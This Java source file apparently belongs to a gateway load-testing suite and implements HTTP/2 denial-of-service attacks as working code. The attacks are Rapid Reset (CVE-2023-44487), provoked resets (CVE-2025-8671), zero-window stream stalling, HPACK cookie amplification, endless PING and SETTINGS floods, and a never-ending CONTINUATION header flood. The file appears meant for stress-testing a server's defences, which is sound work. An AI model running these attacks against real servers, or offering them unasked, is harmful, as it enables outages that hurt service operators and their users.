package io.sluice.loadtest.experiments.hostile;

import static io.sluice.loadtest.experiments.wire.Http2Wire.CONTINUATION;
import static io.sluice.loadtest.experiments.wire.Http2Wire.END_HEADERS;
import static io.sluice.loadtest.experiments.wire.Http2Wire.END_STREAM;
import static io.sluice.loadtest.experiments.wire.Http2Wire.HEADERS;
import static io.sluice.loadtest.experiments.wire.Http2Wire.PING;
import static io.sluice.loadtest.experiments.wire.Http2Wire.RST_STREAM;
import static io.sluice.loadtest.experiments.wire.Http2Wire.SETTINGS;
import static io.sluice.loadtest.experiments.wire.Http2Wire.WINDOW_UPDATE;
import static io.sluice.loadtest.experiments.wire.Http2Wire.frame;

import io.sluice.loadtest.experiments.wire.Attacker;
import io.sluice.loadtest.experiments.wire.Http2Wire;
import java.io.ByteArrayOutputStream;
import java.util.Arrays;

/** Attacks by HTTP/2. */
final class Http2Attackers {

    private static final int STREAMS = 100;
    private static final int AT_ONCE = 100;
    private static final int DEFAULT_WINDOW = 65_535;
    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final byte[] NO_INCREMENT = {0, 0, 0, 0};
    private static final int PING_BYTES = 8;
    private static final int PIECE = 10;
    /** The index of {@code cookie} in the static table. */
    private static final int COOKIE = 32;
    /** The table holds 4,096 bytes, with 32 for each field. */
    private static final int COOKIE_BYTES = 4_000;
    /** As many as the limit of a header block allows. */
    private static final int COOKIES = 7;

    private Http2Attackers() {}

    /** Opens as many streams as allowed, each with a window of 0, so that no response body can be sent. */
    static Attacker windowZero(String path) {
        var block = Http2Wire.get(path);
        return stalling(block, block);
    }

    /** The same, and each stream has a large cookie several times, by references into the HPACK table. */
    static Attacker repeatedCookies(String path) {
        var first = new ByteArrayOutputStream();
        first.writeBytes(Http2Wire.get(path));
        first.writeBytes(Http2Wire.tabled(COOKIE, "c".repeat(COOKIE_BYTES)));
        var others = new ByteArrayOutputStream();
        others.writeBytes(Http2Wire.get(path));
        others.writeBytes(Http2Wire.fromTable(COOKIES));
        return stalling(first.toByteArray(), others.toByteArray());
    }

    private static Attacker stalling(byte[] first, byte[] others) {
        return wire -> {
            var http2 = Http2Wire.open(wire, 0);
            for (int n = 0; n < STREAMS; n++) {
                http2.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, n == 0 ? first : others));
            }
            wire.skipToEnd();
        };
    }

    /** Opens streams and resets each at once (CVE-2023-44487). */
    static Attacker rapidReset(String path) {
        return openingStreams(path, RST_STREAM, CANCEL);
    }

    /** Opens streams and makes the gateway reset each, by an invalid frame (CVE-2025-8671). */
    static Attacker provokedResets(String path) {
        return openingStreams(path, WINDOW_UPDATE, NO_INCREMENT);
    }

    private static Attacker openingStreams(String path, int nextFrame, byte[] payload) {
        return wire -> {
            var http2 = Http2Wire.open(wire, DEFAULT_WINDOW);
            var block = Http2Wire.get(path);
            for (int stream = 1; stream > 0;) {
                var frames = new ByteArrayOutputStream();
                for (int n = 0; n < AT_ONCE && stream > 0; n++, stream += 2) {
                    frames.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, block));
                    frames.writeBytes(frame(nextFrame, 0, stream, payload));
                }
                http2.send(frames.toByteArray());
                wire.skipAvailable();
            }
        };
    }

    /** Sends frames whose only purpose is to cause a reply. */
    static Attacker controlFrames() {
        var frames = new ByteArrayOutputStream();
        for (int n = 0; n < AT_ONCE; n++) {
            frames.writeBytes(frame(PING, 0, 0, new byte[PING_BYTES]));
            frames.writeBytes(frame(SETTINGS, 0, 0));
        }
        return wire -> {
            var http2 = Http2Wire.open(wire, DEFAULT_WINDOW);
            while (true) {
                http2.send(frames.toByteArray());
                wire.skipAvailable();
            }
        };
    }

    /** Sends a header block that never ends, in small pieces. */
    static Attacker continuations(String path) {
        return wire -> {
            var http2 = Http2Wire.open(wire, DEFAULT_WINDOW);
            http2.send(frame(HEADERS, END_STREAM, 1, Http2Wire.get(path)));
            var piece = frame(CONTINUATION, 0, 1, indexedFields());
            while (true) {
                http2.send(piece);
            }
        };
    }

    /** {@code accept-encoding: gzip, deflate} of the static table, again and again. */
    private static byte[] indexedFields() {
        var fields = new byte[PIECE];
        Arrays.fill(fields, (byte) 0x90);
        return fields;
    }
}
